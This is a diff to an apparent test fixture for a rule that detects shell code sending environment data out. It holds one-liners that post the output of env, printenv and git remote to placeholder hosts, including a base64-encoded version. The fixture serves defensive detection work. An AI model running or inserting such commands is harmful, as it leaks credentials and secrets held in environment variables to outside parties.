@@ -1,5 +1,5 @@
 # ruleid: sh-environment-sent
-curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" https://up.invalid/v2 || true
+curl -sm 0.5 -d "$(git remote -v)<<<<<< ALL $(env)" https://up.invalid/v2 || true
 # ruleid: sh-environment-sent
 printenv | base64 | curl -d @- https://c2.invalid
 # ruleid: sh-environment-sent
